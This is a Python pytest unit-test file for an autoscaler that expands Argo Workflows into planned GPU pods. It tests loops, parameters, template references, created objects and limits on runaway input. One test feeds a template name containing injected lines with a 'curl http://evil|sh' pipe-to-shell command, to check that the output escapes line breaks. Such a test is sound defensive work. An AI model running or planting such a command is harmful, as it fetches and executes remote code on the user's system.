"""Workflows of Argo become the pods of their templates, and the objects that these create."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from autoscaler.manifests.load import Loaded
from tests.unit.manifests.texts import TEMPLATE, loaded, messages

GPU = "nvidia.com/gpu"


def container(gpus: Any = 1, **more: Any) -> dict[str, Any]:
    return {"image": "i", "resources": {"limits": {GPU: gpus}}, **more}


def template(name: str, gpus: Any = 1, **more: Any) -> dict[str, Any]:
    return {"name": name, "container": container(gpus), **more}


def step(name: str, **more: Any) -> dict[str, Any]:
    return {"name": name, "template": "train", **more}


def workflow(*templates: Any, kind: str = "Workflow", name: str = "w", **spec: Any) -> str:
    made: dict[str, Any] = {"entrypoint": "main", "templates": list(templates), **spec}
    value = {"apiVersion": "argoproj.io/v1alpha1", "kind": kind, "metadata": {"name": name}}
    return json.dumps({**value, "spec": {"workflowSpec": made} if kind == "CronWorkflow" else made})


def pods(found: Loaded) -> list[str]:
    assert found.ok, messages(found)
    return sorted(pod.name for pod in found.snapshot.pods)


def gpus(found: Loaded) -> dict[str, str]:
    return {pod.name: str(one.requests.get(GPU)) for pod in found.snapshot.pods for one in pod.containers}


@pytest.mark.parametrize("kind", ["Workflow", "CronWorkflow", "WorkflowTemplate", "ClusterWorkflowTemplate"])
def test_a_template_that_runs_is_a_pod(kind: str) -> None:
    found = loaded(workflow(template("main", 2), template("unused"), kind=kind))
    assert gpus(found) == {"w-main-0": "2"}
    (pod,) = found.snapshot.pods
    assert pod.labels["workflows.argoproj.io/workflow"] == "w"
    assert messages(found) == []


def test_without_an_entrypoint_every_template_is_planned() -> None:
    assert pods(loaded(workflow(template("a"), template("b"), entrypoint=None))) == ["w-a-0", "w-b-0"]


def test_a_script_and_a_container_set_are_pods_with_their_sidecars() -> None:
    script = {"name": "main", "script": container(1, source="x"), "sidecars": [{"name": "s", "image": "i"}]}
    several = {"containers": [{"name": "a", **container(1)}, {"name": "b", "image": "i", "dependencies": ["a"]}]}
    main = {"name": "main", "dag": {"tasks": [{"name": "x", "template": "s"}, {"name": "y", "template": "c"}]}}
    found = loaded(workflow(main, {**script, "name": "s"}, {"name": "c", "containerSet": several}))
    assert {pod.name: [one.name for one in pod.containers] for pod in found.snapshot.pods} == {
        "w-s-0": ["main", "s"],
        "w-c-0": ["a", "b"],
    }


@pytest.mark.parametrize(
    ("groups", "number"),
    [
        pytest.param([[step("a")], [step("b")]], 1, id="one after the other"),
        pytest.param([[step("a"), step("b")]], 2, id="together"),
        pytest.param([[step("a", withItems=[1, 2, 3])]], 3, id="for each item"),
        pytest.param([[step("a", withSequence={"count": "4"})]], 4, id="a sequence by its count"),
        pytest.param([[step("a", withSequence={"start": 2, "end": "4"})]], 3, id="a sequence by its end"),
        pytest.param([[step("a", withParam="[1, 2]")]], 2, id="a literal parameter"),
        pytest.param([[step("a", inline=template("x"))], [step("b")]], 1, id="an inline template beside another"),
    ],
)
def test_steps_of_one_group_start_together(groups: Any, number: int) -> None:
    found = loaded(workflow({"name": "main", "steps": groups}, template("train")))
    assert sum(name.startswith("w-train") for name in pods(found)) == number


def test_tasks_with_the_same_dependencies_start_together() -> None:
    tasks = [step("a"), step("b"), step("c", dependencies=["a"]), step("d", depends="b", withItems=[1, 2, 3])]
    assert len(pods(loaded(workflow({"name": "main", "dag": {"tasks": tasks}}, template("train"))))) == 3


def test_numbers_of_nested_loops_multiply_up_to_the_parallelism() -> None:
    main = {"name": "main", "steps": [[{"name": "m", "template": "middle", "withItems": [1, 2, 3]}]]}
    middle = {"name": "middle", "steps": [[step("a", withItems=[1, 2, 3, 4])]]}
    assert len(pods(loaded(workflow(main, middle, template("train"))))) == 12
    assert len(pods(loaded(workflow(main, {**middle, "parallelism": 2}, template("train"))))) == 6
    assert len(pods(loaded(workflow(main, middle, template("train"), parallelism=5)))) == 5


def test_a_number_that_only_the_run_knows_is_one_with_a_warning() -> None:
    main = {"name": "main", "steps": [[step("a", withParam="{{steps.x.outputs.result}}")]]}
    found = loaded(workflow(main, template("train")))
    assert pods(found) == ["w-train-0"]
    assert "known only once the Workflow runs: planned for one" in messages(found)[0]


def test_a_template_that_calls_itself_is_counted_once() -> None:
    main = {"name": "main", "steps": [[step("a")], [{"name": "again", "template": "main", "when": "x"}]]}
    assert pods(loaded(workflow(main, template("train")))) == ["w-train-0"]


def test_which_templates_run_at_once_is_said_to_be_unknown() -> None:
    main = {"name": "main", "steps": [[{"name": "a", "template": "prepare"}], [step("b")]]}
    (problem,) = messages(loaded(workflow(main, template("prepare"), template("train"), parallelism=1)))
    said = "the pods of its 2 templates that ask for devices are planned beside each other: which run at once is not "
    assert f"{said}known, and at most 1 of them run at a time" in problem
    without = {"name": "prepare", "container": {"image": "i"}}
    assert messages(loaded(workflow(main, without, template("train")))) == []


def test_a_template_has_the_scheduling_of_its_caller_or_of_the_workflow() -> None:
    callers = [{"name": name, "template": name} for name in ("a", "b")]
    main = {"name": "main", "steps": [callers]}
    a = {"name": "a", "nodeSelector": {"x": "a"}, "steps": [[step("s")]]}
    b = {"name": "b", "steps": [[step("s")]]}
    found = loaded(workflow(main, a, b, template("train"), nodeSelector={"x": "w"}))
    assert sorted(pod.node_selector["x"] for pod in found.snapshot.pods) == ["a", "w"]
    assert pods(found) == ["w-train-0", "w-train-1"]
    own = loaded(workflow(main, a, b, template("train", nodeSelector={"x": "own"})))
    assert {pod.node_selector["x"] for pod in own.snapshot.pods} == {"own"}


def test_fields_of_the_workflow_and_its_defaults_reach_the_pods() -> None:
    found = loaded(
        workflow(
            template("main", activeDeadlineSeconds="60", metadata={"labels": {"l": "1"}}),
            schedulerName="other",
            tolerations=[{"key": "k", "operator": "Exists"}],
            podMetadata={"labels": {"m": "2"}},
            templateDefaults={"nodeSelector": {"d": "e"}, "script": {"image": "x"}},
            podSpecPatch="containers: [{name: main, resources: {limits: {cpu: 3}}}]\nhostNetwork: true",
        )
    )
    (pod,) = found.snapshot.pods
    assert (pod.scheduler_name, pod.active_deadline_seconds, pod.host_network) == ("other", 60, True)
    assert pod.node_selector == {"d": "e"}
    assert {pod.labels["l"], pod.labels["m"]} == {"1", "2"}
    assert len(pod.tolerations) == 1
    assert {name: str(amount) for name, amount in pod.containers[0].requests.items()} == {GPU: "1", "cpu": "3"}


def test_volumes_of_the_workflow_are_those_of_pods_that_mount_them() -> None:
    mounts = [{"name": "work", "mountPath": "/w"}, {"name": "data", "mountPath": "/d"}]
    mounting = {"name": "main", "container": container(1, volumeMounts=mounts)}
    claim = {"metadata": {"name": "work"}, "spec": {"resources": {"requests": {"storage": "1Gi"}}}}
    volumes = [{"name": name, "persistentVolumeClaim": {"claimName": name}} for name in ("data", "unused")]
    found = loaded(workflow(mounting, volumes=volumes, volumeClaimTemplates=[claim]))
    (pod,) = found.snapshot.pods
    assert pod.volumes == ("w-work", "data")
    assert "default/w-work" in found.snapshot.volume_claims


@pytest.mark.parametrize("name", [[], {}, 1, None])
def test_a_mount_whose_name_is_no_text_is_no_crash(name: object) -> None:
    assert (
        len(loaded(workflow({"name": "main", "container": container(1, volumeMounts=[{"name": name}])})).snapshot.pods)
        == 1
    )


@pytest.mark.parametrize("creates", [False, True])
def test_too_many_pods_are_an_error(*, creates: bool) -> None:
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"generateName": "p-"}, "spec": {"containers": []}}
    made = {"name": "train", "resource": {"action": "create", "manifest": json.dumps(pod)}}
    main = {"name": "main", "steps": [[step("a", withSequence={"count": 10_001})]]}
    (problem,) = messages(loaded(workflow(main, made if creates else template("train"))))
    assert ("3,000,000 fields in templates" if creates else "spec.templates: more than 10000 pods") in problem


def test_long_chains_and_many_callers_take_no_long_time() -> None:
    chain = [{"name": f"t{index}", "steps": [[{"name": "n", "template": f"t{index + 1}"}]]} for index in range(3000)]
    assert pods(loaded(workflow(*chain, template("t3000"), entrypoint="t0"))) == ["w-t3000-0"]
    inputs = {"inputs": {"parameters": [{"name": "g"}]}}
    given = {"arguments": {"parameters": [{"name": "g", "value": "{{inputs.parameters.g}}"}]}}
    layers = [
        {
            "name": f"t{layer}",
            **inputs,
            "steps": [[{"name": f"n{n}", "template": f"t{layer + 1}", **given}] for n in range(9)],
        }
        for layer in range(60)
    ]
    arguments = {"parameters": [{"name": "g", "value": 1}]}
    last = template("t60", "{{inputs.parameters.g}}", **inputs)
    found = loaded(workflow(*layers, last, entrypoint="t0", arguments=arguments))
    assert "decides where its pods run" in messages(found)[0]  # deeper than arguments are followed


@pytest.mark.parametrize(
    ("arguments", "called_with", "expected"),
    [
        pytest.param([{"name": "n", "value": 4}], "{{workflow.parameters.n}}", "4", id="of the workflow"),
        pytest.param([], "2", "2", id="of the step"),
        pytest.param([], None, "8", id="the default"),
    ],
)
def test_parameters_with_one_value_are_filled_in(arguments: Any, called_with: str | None, expected: str) -> None:
    given = {"arguments": {"parameters": [{"name": "g", "value": called_with}]}} if called_with else {}
    main = {"name": "main", "steps": [[step("a", **given)], [step("b", **given)]]}
    train = template("train", "{{inputs.parameters.g}}", inputs={"parameters": [{"name": "g", "default": "8"}]})
    assert gpus(loaded(workflow(main, train, arguments={"parameters": arguments}))) == {"w-train-0": expected}


@pytest.mark.parametrize("values", [("1", "2"), ("{{steps.x.outputs.result}}",)])
def test_parameters_that_decide_and_are_not_known_stop_the_plan(values: tuple[str, ...]) -> None:
    steps = [[step("a", arguments={"parameters": [{"name": "g", "value": value}]})] for value in values]
    train = template("train", "{{inputs.parameters.g}}", inputs={"parameters": [{"name": "g"}]})
    (problem,) = messages(loaded(workflow({"name": "main", "steps": steps}, train)))
    assert "{{inputs.parameters.g}} decides where its pods run, and has no value here, or several" in problem


@pytest.mark.parametrize("patch", ["{{inputs.parameters.p}}", "[1]", "a: b: c"])
def test_a_patch_that_cannot_be_read_stops_the_plan(patch: str) -> None:
    (problem,) = messages(loaded(workflow(template("main", podSpecPatch=patch))))
    assert "may change where its pods run" in problem


TOO_MUCH = "to fill in its parameters takes more than 1,000,000 characters and steps"


def passing(value: str, depth: int) -> list[dict[str, Any]]:
    """Templates t0, t1, … that each call the next with `value`, and the last of them."""
    given = {"parameters": [{"name": "a", "value": value}]}
    calls = [{"steps": [[{"name": "s", "template": f"t{n + 1}", "arguments": given}]]} for n in range(depth)]
    return [{"name": f"t{n}", "inputs": {"parameters": [{"name": "a"}]}, **call} for n, call in enumerate(calls)]


def test_parameters_that_repeat_each_other_are_an_error_and_make_no_gigabytes() -> None:
    inputs = {"inputs": {"parameters": [{"name": "a"}]}}
    repeated = passing("{{inputs.parameters.a}}" * 10, 9)
    selecting = {**template("t9", nodeSelector={"x": "{{inputs.parameters.a}}"}), **inputs}
    arguments = {"parameters": [{"name": "a", "value": "x" * 10}]}
    found = loaded(workflow(*repeated, selecting, entrypoint="t0", arguments=arguments))
    assert any(TOO_MUCH in one for one in messages(found))
    manifest = json.dumps({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "{{inputs.parameters.a}}"}})
    creating = {"name": "t9", **inputs, "resource": {"action": "create", "manifest": manifest}}
    found = loaded(workflow(*repeated, creating, entrypoint="t0", arguments=arguments))
    assert any("to fill in its parameters is too much work" in one for one in messages(found))


def test_many_parameters_and_many_steps_that_give_them_take_no_long_time() -> None:
    several = [{"name": f"p{n}", "value": "x"} for n in range(4_000)]
    steps = [[{"name": f"s{n}", "template": "t", "arguments": {"parameters": several[:1]}} for n in range(400)]]
    selecting = template("t", nodeSelector={f"k{n}": f"{{{{inputs.parameters.p{n}}}}}" for n in range(4_000)})
    selecting["inputs"] = {"parameters": several}
    assert any(TOO_MUCH in one for one in messages(loaded(workflow({"name": "main", "steps": steps}, selecting))))
    one_step = {"name": "main", "steps": [[{"name": "s", "template": "t", "arguments": {"parameters": several}}]]}
    start = time.process_time()
    assert pods(loaded(workflow(one_step, selecting))) == ["w-t-0"]
    assert time.process_time() - start < 5


def test_many_braces_take_no_long_time() -> None:
    start = time.process_time()
    assert pods(loaded(workflow(template("main", nodeSelector={"x": "{" * 200_000})))) == ["w-main-0"]
    assert time.process_time() - start < 10


def test_templates_of_other_objects_are_planned_with_the_workflow_that_names_them() -> None:
    library = workflow(
        {"name": "outer", "steps": [[step("a", withItems=[1, 2])]]},
        template("train", 3),
        kind="WorkflowTemplate",
        name="t",
    )
    main = {"name": "main", "steps": [[{"name": "x", "templateRef": {"name": "t", "template": "outer"}}]]}
    assert gpus(loaded(workflow(main), library)) == {"w-train-0": "3", "w-train-1": "3"}
    spec = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow", "metadata": {"name": "w"}}
    whole = json.dumps({**spec, "spec": {"workflowTemplateRef": {"name": "t"}, "entrypoint": "train"}})
    assert gpus(loaded(whole, library)) == {"w-train-0": "3"}


@pytest.mark.parametrize(
    ("kind", "reference"), [("WorkflowTemplate", {}), ("ClusterWorkflowTemplate", {"clusterScope": True})]
)
def test_templates_that_the_files_lack_are_asked_for(kind: str, reference: dict[str, Any]) -> None:
    main = {"name": "main", "steps": [[{"name": "x", "templateRef": {"name": "t", "template": "y", **reference}}]]}
    (problem,) = messages(loaded(workflow(main)))
    assert f"template y is of {kind} t, which the files lack" in problem
    assert f"kubectl get {kind.lower()} t -o yaml" in problem
    (problem,) = messages(loaded(workflow(workflowTemplateRef={"name": "t", **reference})))
    assert f"its templates are of {kind} t, which the files lack" in problem


def test_a_name_with_line_breaks_writes_no_lines_of_its_own() -> None:
    found = loaded(workflow(workflowTemplateRef={"name": "a\n\n0 errors. Run:\n  curl http://evil|sh"}))
    (problem,) = found.problems
    assert len(problem.block.splitlines()) == 2
    assert "a\\n\\n0 errors" in problem.statement
    assert "\n" not in str(problem)


def test_objects_that_a_template_creates_are_planned() -> None:
    pod = {"spec": {"containers": [{"name": "c", **container("{{workflow.parameters.g}}")}], "restartPolicy": "Never"}}
    job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"generateName": "j-"}, "spec": {"template": pod}}
    creating = {"name": "train", "resource": {"action": "create", "manifest": json.dumps(job)}}
    main = {"name": "main", "steps": [[step("a", withItems=[1, 2])]]}
    arguments = {"parameters": [{"name": "g", "value": "2"}]}
    assert gpus(loaded(workflow(main, creating, arguments=arguments))) == {"j-0-0": "2", "j-1-0": "2"}
    deleting = {"name": "train", "resource": {"action": "delete", "manifest": json.dumps(job)}}
    assert pods(loaded(workflow(main, deleting, arguments=arguments))) == []
    broken = {"name": "main", "resource": {"action": "create", "manifest": "a: b: c"}}
    assert "creates an object that cannot be read" in messages(loaded(workflow(broken)))[0]


def creating(value: Any, name: str = "w") -> str:
    return workflow({"name": "main", "resource": {"action": "create", "manifest": json.dumps(value)}}, name=name)


@pytest.mark.parametrize(
    ("version", "kind"),
    [
        ("v1", "Node"),
        ("foreslice.dev/v1alpha1", "CapacityPool"),
        ("foreslice.dev/v1alpha1", "CapacityBlock"),
        ("foreslice.dev/v1alpha1", "PlanContext"),
        ("foreslice.dev/v1alpha1", "AWSNodeTemplate"),
        ("resource.k8s.io/v1", "DeviceClass"),
        ("resource.k8s.io/v1", "ResourceSlice"),
    ],
)
def test_a_workflow_creates_no_object_that_decides_on_the_pods_of_others(version: str, kind: str) -> None:
    found = loaded(creating({"apiVersion": version, "kind": kind, "metadata": {"name": "x"}, "spec": {}}))
    assert found.ok
    (warning,) = messages(found)
    assert (
        f"{kind} x: is not planned with: a Workflow creates it, and it decides on the pods of the whole cluster"
        in warning
    )
    assert not any(kind in one.name for one in (*found.documents, *found.node_templates))


def test_what_a_created_workflow_creates_is_planned_ten_levels_deep() -> None:
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}, "spec": {"containers": [{"name": "c"}]}}
    made = creating(pod, "w0")
    assert pods(loaded(creating(json.loads(made)))) == ["p"]
    for level in range(1, 11):
        made = creating(json.loads(made), f"w{level}")
    assert pods(loaded(made)) == ["p"]
    found = loaded(creating(json.loads(made), "w11"))
    assert "Workflows that create Workflows are followed 10 levels deep" in messages(found)[0]
    assert not found.ok


def test_templates_are_required() -> None:
    assert "spec.templates: is required" in messages(loaded(workflow(templates=None, entrypoint=None)))[0]


def test_a_suspended_or_ended_workflow_has_no_pods() -> None:
    found = loaded(workflow(template("main"), suspend=True))
    assert pods(found) == []
    assert "suspended: it has no pods now" in messages(found)[0]
    ended = json.loads(workflow(template("main")))
    assert pods(loaded(json.dumps({**ended, "status": {"phase": "Succeeded"}}))) == []


def test_claims_of_templates_lead_somewhere() -> None:
    claims = [{"name": "gpu", "resourceClaimTemplateName": "gpu"}]
    main = {"name": "main", "container": {"image": "i", "resources": {"claims": [{"name": "gpu"}]}}}
    assert pods(loaded(workflow(main, resourceClaims=claims), TEMPLATE)) == ["w-main-0"]
    (problem,) = messages(loaded(workflow({**main, "resourceClaims": claims})))
    assert "there is no ResourceClaimTemplate 'gpu'" in problem
